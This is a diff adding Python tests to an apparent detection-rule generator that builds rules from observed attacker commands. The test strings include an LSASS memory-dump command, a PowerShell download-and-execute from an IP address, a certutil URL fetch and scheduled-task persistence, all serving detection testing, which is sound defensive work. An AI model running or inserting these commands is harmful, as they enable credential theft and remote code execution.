@@ -124,6 +124,45 @@ def test_a_renamed_program_is_not_the_program() -> None:
     assert not fires(found, 'forfiles /c "certutil -urlcache -f http://a/b c"', S32 + "forfiles.exe")
 
 
+DUMP = "C:\\Users\\Public\\p.exe"
+
+
+def test_what_a_rule_demands_already_is_no_alternative() -> None:
+    """``lsass`` and either ``lsass`` or ``-accepteula`` would be ``lsass`` alone."""
+    (found,), _, _ = made([deed("p.exe -accepteula -ma lsass.exe a.dmp", DUMP)], quiet())
+    assert fires(found, "other.exe lsass.exe out.dmp", "D:\\other.exe")
+    assert not any("lsass" in each.name for each in found.logic.predicates)
+    assert not fires(found, 'tasklist /FI "IMAGENAME eq lsass.exe"', S32 + "tasklist.exe")
+    assert not fires(found, "findstr lsass a.txt", S32 + "findstr.exe")
+
+
+TASK = 'schtasks /create /tn a /tr "{}" /sc daily'
+
+
+def test_an_alternative_covers_a_deed_of_its_own() -> None:
+    """What the intruder called his file is not one way of several."""
+    plain, named = (TASK.format(f"C:\\Windows\\Temp\\{name}.exe") for name in ("x", "sysmon"))
+    for line in (plain, named):
+        (found,), _, _ = made([deed(line, S32 + "schtasks.exe")], quiet())
+        assert not any("_or_" in name for name in names(found))
+        assert fires(found, plain, S32 + "schtasks.exe")
+
+
+def test_two_ways_of_which_each_was_gone_are_one_rule() -> None:
+    lines = (TASK.format("C:\\Windows\\Temp\\x.dat"), TASK.format("cmd.exe /c d"))
+    (found,), _, _ = made([deed(line, S32 + "schtasks.exe") for line in lines], quiet())
+    assert any("_or_" in name for name in names(found))
+    assert all(fires(found, line, S32 + "schtasks.exe") for line in lines)
+
+
+def test_powershell_by_its_lawful_names_is_no_other_program() -> None:
+    line = "a.exe -nop -c iex(irm http://198.51.100.7/a)"
+    (found,), _, _ = made([deed(line, "C:\\Users\\Public\\a.exe")], quiet())
+    assert fires(found, line, "D:\\other.exe")
+    for name in ("sqlps", "SQLToolsPS", "powershell_ise"):
+        assert not fires(found, line.replace("a.exe", name, 1), f"C:\\Tools\\Binn\\{name}.exe")
+
+
 def test_ways_apart_become_rules_apart() -> None:
     deeds = [deed(ATTACK), deed("bitsadmin /setnotifycmdline j c:\\a.exe NUL")]
     found, _, _ = made(deeds, quiet())
